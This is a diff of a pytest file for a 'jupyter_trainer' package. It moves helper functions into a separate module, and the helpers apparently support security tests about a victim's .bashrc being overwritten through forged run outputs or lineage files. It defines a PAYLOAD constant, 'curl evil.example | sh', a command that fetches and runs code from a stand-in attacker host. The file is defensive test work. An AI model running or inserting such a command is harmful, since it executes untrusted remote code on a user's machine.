@@ -14,44 +14,13 @@ import threading
 from pathlib import Path
 
 import pytest
+from made_runs import forge, made_run, writable
 
 import jupyter_trainer as jt
-from jupyter_trainer.api import runs as api
 from jupyter_trainer.core.errors import SpecError, StoreError
-from jupyter_trainer.core.spec import CodeSpec, RunSpec
-from jupyter_trainer.store import Store
 
 SAFE_BASHRC = "# the victim's own .bashrc\n"
 PAYLOAD = b"curl evil.example | sh\n"
-
-
-def made_run(store: Store, files: dict[str, bytes]) -> api.Run:
-    """A run in the store whose outputs/ holds ``files`` (relative path -> bytes)."""
-    spec = RunSpec(name="made", code=CodeSpec(entry="_jt/cell.py", hash="sha256:1"))
-    snapshot = store.staging_dir()
-    snapshot.mkdir()
-    run_id = store.create(spec, snapshot)
-    outputs = store.paths(run_id).outputs
-    for rel, data in files.items():
-        (outputs / rel).parent.mkdir(parents=True, exist_ok=True)
-        (outputs / rel).write_bytes(data)
-    return api.get_run(run_id)
-
-
-def writable(folder: Path) -> None:
-    """Undo the registry's read-only modes, as the owner of a store can."""
-    for path in [folder, *folder.rglob("*")]:
-        if not path.is_symlink():
-            path.chmod(0o755 if path.is_dir() else 0o644)
-
-
-def forge(model, files: list[dict], **fields) -> None:
-    """Rewrite the version's lineage.json with ``files`` (and other ``fields``)."""
-    writable(model.folder)
-    path = model.folder / "lineage.json"
-    lineage = json.loads(path.read_text())
-    lineage.update(files=files, **fields)
-    path.write_text(json.dumps(lineage))
 
 
 def entry(path: str, data: bytes) -> dict:
